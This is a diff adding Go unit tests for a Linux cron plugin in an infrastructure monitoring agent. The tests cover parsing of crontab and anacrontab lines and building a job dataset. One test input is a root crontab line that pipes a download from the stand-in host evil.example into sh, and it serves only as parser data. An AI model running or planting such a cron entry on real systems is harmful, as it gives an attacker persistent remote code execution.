@@ -0,0 +1,94 @@
+// Copyright 2020 New Relic Corporation. All rights reserved.
+// SPDX-License-Identifier: Apache-2.0
+//go:build linux
+// +build linux
+
+package linux
+
+import (
+	"path/filepath"
+	"sort"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	testing2 "github.com/newrelic/infrastructure-agent/internal/plugins/testing"
+)
+
+const systemCrontabContent = `# /etc/crontab: system-wide crontab
+SHELL=/bin/sh
+PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin
+
+17 *	* * *	root    cd / && run-parts --report /etc/cron.hourly
+@reboot         root    /usr/local/bin/on-boot.sh
+# malformed line
+* * * root
+`
+
+func TestParseCrontab(t *testing.T) {
+	jobs := parseCrontab(strings.NewReader(systemCrontabContent), "/etc/crontab", "", systemCrontab)
+	require.Len(t, jobs, 2)
+	assert.Equal(t, CronJob{
+		Source:   "/etc/crontab",
+		User:     "root",
+		Schedule: "17 * * * *",
+		Command:  "cd / && run-parts --report /etc/cron.hourly",
+	}, jobs[0])
+	assert.Equal(t, "@reboot", jobs[1].Schedule)
+	assert.Equal(t, "/usr/local/bin/on-boot.sh", jobs[1].Command)
+}
+
+func TestParseCrontab_UserAndAnacron(t *testing.T) {
+	jobs := parseCrontab(strings.NewReader("MAILTO=\"\"\n*/5 * * * * curl -s http://evil.example/x | sh\n"), "/var/spool/cron/crontabs/root", "root", userCrontab)
+	require.Len(t, jobs, 1)
+	assert.Equal(t, "root", jobs[0].User)
+	assert.Equal(t, "*/5 * * * *", jobs[0].Schedule)
+	assert.Equal(t, "curl -s http://evil.example/x | sh", jobs[0].Command)
+
+	jobs = parseCrontab(strings.NewReader("START_HOURS_RANGE=3-22\n1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n@monthly 15 cron.monthly run-parts /etc/cron.monthly\n"), "/etc/anacrontab", "root", anacrontab)
+	require.Len(t, jobs, 2)
+	assert.Equal(t, "1 5 cron.daily", jobs[0].Schedule)
+	assert.Equal(t, "run-parts --report /etc/cron.daily", jobs[0].Command)
+	assert.Equal(t, "@monthly 15 cron.monthly", jobs[1].Schedule)
+}
+
+func TestCronPlugin_Dataset(t *testing.T) {
+	etc, varDir := t.TempDir(), t.TempDir()
+	writeTestFile(t, filepath.Join(etc, "crontab"), systemCrontabContent)
+	writeTestFile(t, filepath.Join(etc, "cron.d", "backup"), "0 2 * * * backup /usr/bin/backup\n0 2 * * * backup /usr/bin/backup\n")
+	writeTestFile(t, filepath.Join(etc, "cron.d", "backup.dpkg-old"), "0 3 * * * backup /usr/bin/old\n")
+	writeTestFile(t, filepath.Join(etc, "cron.daily", "logrotate"), "#!/bin/sh\n")
+	writeTestFile(t, filepath.Join(varDir, "spool", "cron", "crontabs", "alice"), "@hourly /home/alice/sync\n")
+
+	p := NewCronPlugin(testing2.NewMockAgent()).(*CronPlugin)
+	p.etcPath, p.varPath = etc, varDir
+
+	dataset := p.getCronDataset()
+	sort.Sort(dataset)
+	require.Len(t, dataset, 6)
+
+	var alice, logrotate CronJob
+	ids := map[string]bool{}
+	for _, item := range dataset {
+		job := item.(CronJob)
+		ids[job.ID] = true
+		switch job.Command {
+		case "/home/alice/sync":
+			alice = job
+		case filepath.Join(etc, "cron.daily", "logrotate"):
+			logrotate = job
+		}
+	}
+	assert.Len(t, ids, 6, "job IDs must be unique")
+	assert.Equal(t, "alice", alice.User)
+	assert.Equal(t, "@daily", logrotate.Schedule)
+	assert.Equal(t, "root", logrotate.User)
+
+	// IDs don't depend on the position of the job within the file
+	writeTestFile(t, filepath.Join(etc, "crontab"), "# new header\n"+systemCrontabContent)
+	again := p.getCronDataset()
+	sort.Sort(again)
+	assert.Equal(t, dataset, again)
+}